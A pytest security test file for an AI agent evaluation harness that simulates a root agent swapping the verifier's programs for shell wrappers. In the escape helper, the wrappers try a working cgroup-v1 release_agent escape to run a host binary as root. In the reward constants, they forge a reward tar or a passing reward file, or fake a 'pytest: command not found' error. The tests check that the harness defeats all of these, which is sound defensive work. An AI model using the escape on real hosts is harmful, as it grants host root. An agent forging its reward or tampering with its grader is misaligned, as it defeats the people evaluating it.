"""Promise: on podman/docker nothing the agent can write runs with privileges or decides the reward.

The agent is root in its container and can replace any program there. Attacks (issue 33), each a
do-nothing agent on the service fixture task (Terminal-Bench folder format,
tests/fixtures/terminal_bench_containers) that first swaps programs of the verifier's toolchain for
``/bin/dash`` wrappers:

- R1 (host root): the wrappers (``unshare``, ``timeout``, ``bash``, ``sh``) log the capabilities and the
  seccomp mode they run with and try a cgroup-v1 ``release_agent`` escape: mount a cgroup hierarchy,
  make the host's ``/usr/bin/touch`` its release agent and empty a cgroup whose path is a host path
  the test watches. Before the fix the verifier ran the container's ``unshare`` through ``exec
  --privileged``: the kernel ran ``touch`` on the host as root. Now no program from the container's
  filesystem holds a capability outside the container's default set plus the verifier's marker
  (``CAP_WAKE_ALARM``), nor runs with less seccomp filtering than the agent's own processes.
- R2 (forged reward): a fake ``bash`` that writes reward 1 when its argv names ``test.sh`` and a fake
  ``unshare`` that prints a reward tar turned an honest 0.0 into 1.0. Now the episode scores 0 and
  says ``tampered`` (the engine's diff of the container against its image).
- R3 (a failed answer made an infrastructure error): a fake ``bash`` prints ``pytest: command not
  found`` and writes no reward; that read as ``error: infrastructure`` and left the score. Now it is
  a 0 (tampered, and not reproduced without the agent).

Since issue 42 (R1) the verifier runs on the image's own toolchain (:mod:`unified.execution.pristine`): the
wrapped programs are still named ``tampered``, but the verifier never runs them at all.

Root only (the fixture's base is rebuilt with debootstrap; rootless podman is not covered here).
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from security._containers import CONTAINER_MARKS, attack

pytestmark = CONTAINER_MARKS

CAP_SYS_ADMIN, CAP_WAKE_ALARM = 21, 35


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


def _wrap(program: str, body: str) -> str:
    """Shell that moves ``/usr/bin/PROGRAM`` aside and puts a ``/bin/dash`` script running ``body`` in its place
    (then the real program, unless ``body`` exits)."""
    real = f"/usr/bin/{program}.real"
    chain = f'exec {real} "$@"'
    return (f"mv /usr/bin/{program} {real} && printf '%s\\n' '#!/bin/dash' {_quote(body)} {_quote(chain)} "
            f"> /usr/bin/{program} && chmod 755 /usr/bin/{program}; ")


LOG_STATUS = "grep -E '^(CapEff|Seccomp):' /proc/self/status | tr '\\n' ' ' >> /logs/agent/status.$(basename $0); echo >> /logs/agent/status.$(basename $0)"


CGROUP_NAME = "unifiedr1"


def _escape(proof: Path) -> str:
    """The cgroup-v1 ``release_agent`` escape: the host runs ``/usr/bin/touch PROOF`` as root when it works.

    The release agent gets the emptied cgroup's path inside its hierarchy, so a cgroup at ``PROOF`` (in a named
    hierarchy of its own) makes it touch that host path. Quiet; :func:`release_agent_proof` removes the cgroups."""
    c, leaf = "/tmp/.unified-r1-cgroup", f"/tmp/.unified-r1-cgroup{proof}"
    return (f"{{ mkdir -p {c} && mount -t cgroup -o none,name={CGROUP_NAME} cgroup {c} && "
            f"echo /usr/bin/touch > {c}/release_agent && mkdir -p {leaf} && echo 1 > {leaf}/notify_on_release && "
            f"/bin/dash -c 'echo $$ > {leaf}/cgroup.procs'; }} >/dev/null 2>&1")


@pytest.fixture
def release_agent_proof(tmp_path):
    """The host path the escape would touch; afterwards, any cgroup an escape left in its hierarchy is removed
    (mounting the named hierarchy here: a fresh, empty one when no escape made it, gone again at umount)."""
    yield tmp_path / "release-agent-ran-on-the-host"
    mnt = tmp_path / "cgroup"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "cgroup", "-o", f"none,name={CGROUP_NAME}", "cgroup", str(mnt)],
                      capture_output=True).returncode == 0:
        try:
            for d in sorted((p for p in mnt.rglob("*") if p.is_dir()), key=lambda p: len(p.parts), reverse=True):
                d.rmdir()
        finally:
            subprocess.run(["umount", str(mnt)], check=True)


FORGED_TAR = ("d=$(mktemp -d); mkdir $d/out; echo 1 > $d/out/reward.txt; echo 0 > $d/rc; : > $d/stdout; : > $d/stderr; "
              "cd $d && tar -c . | base64; exit 0")


def _r1_r2_keys(proof: Path) -> str:
    """Every wrapper logs its status and tries the escape; ``unshare`` prints a reward tar, ``bash`` writes reward 1."""
    spy = f"{LOG_STATUS}; {_escape(proof)}"
    return (_wrap("unshare", f"{spy}; {FORGED_TAR}")
            + _wrap("bash", f'{spy}; case "$*" in *test.sh*) echo 1 > /logs/verifier/reward.txt; exit 0;; esac')
            + _wrap("timeout", spy) + _wrap("sh", spy)
            + "grep -E '^(CapEff|Seccomp):' /proc/self/status | tr '\\n' ' ' > /logs/agent/status.agent; echo wrappers-$((1+1))")


def _logged(env) -> dict[str, list[dict[str, int]]]:
    """Per wrapped program (and ``agent``: the agent's own shell), the CapEff and Seccomp each run logged."""
    out = env.session.exec(["sh", "-c", "grep -H . /logs/agent/status.* 2>/dev/null; true"], timeout_s=30).stdout
    seen: dict[str, list[dict[str, int]]] = {}
    for line in out.splitlines():
        path, _, fields = line.partition(":")
        words = fields.split()
        status = {words[i].rstrip(":"): int(words[i + 1], 16) for i in range(0, len(words) - 1, 2)}
        seen.setdefault(path.rsplit(".", 1)[-1], []).append(status)
    return seen


def test_no_program_of_the_container_runs_with_privileges_or_forges_the_reward(podman_service_adapter,
                                                                             release_agent_proof):
    proof = release_agent_proof
    result, logged = attack(podman_service_adapter, _r1_r2_keys(proof), "wrappers-2", _logged)
    assert not proof.exists(), "the container's program escaped to the host as root (cgroup release_agent)"
    # the verifier runs on the image's own toolchain (issue 42, R1): the agent's wrapped bash never runs in it
    assert "bash" not in logged, f"the verifier ran the agent's bash: {logged}"
    agent = logged.pop("agent")[0]
    for program, runs in logged.items():
        for status in runs:
            held = {b for b in range(64) if status["CapEff"] >> b & 1}
            assert CAP_SYS_ADMIN not in held, f"the container's {program} ran with CAP_SYS_ADMIN: {sorted(held)}"
            assert held <= {b for b in range(64) if agent["CapEff"] >> b & 1} | {CAP_WAKE_ALARM}, (program, sorted(held))
            assert status["Seccomp"] >= agent["Seccomp"], f"{program} ran with less seccomp filtering than the agent"
    assert result.score == 0.0 and result.passed is False, result.details
    assert result.details["stop_reason"] == "tampered" and result.details["reward_claimed"] == 0.0  # not forged
    for program in ("/usr/bin/bash", "/usr/bin/unshare", "/usr/bin/timeout"):
        assert program in result.details["tampered"]


FAKE_MISSING_PYTEST = _wrap("bash", 'case "$*" in *test.sh*) echo "bash: line 9: pytest: command not found"; exit 127;; '
                            'esac') + "echo wrappers-$((1+1))"


def test_a_fake_bash_cannot_make_a_failed_answer_an_infrastructure_error(podman_service_adapter):
    result, _ = attack(podman_service_adapter, FAKE_MISSING_PYTEST, "wrappers-2")
    # the verifier runs on the image's toolchain (issue 42, R1): the fake never runs there
    assert "pytest: command not found" not in result.details.get("verifier_output", ""), result.details
    assert result.error is None and result.score == 0.0 and result.passed is False, result.error
    assert "/usr/bin/bash" in result.details["tampered"]
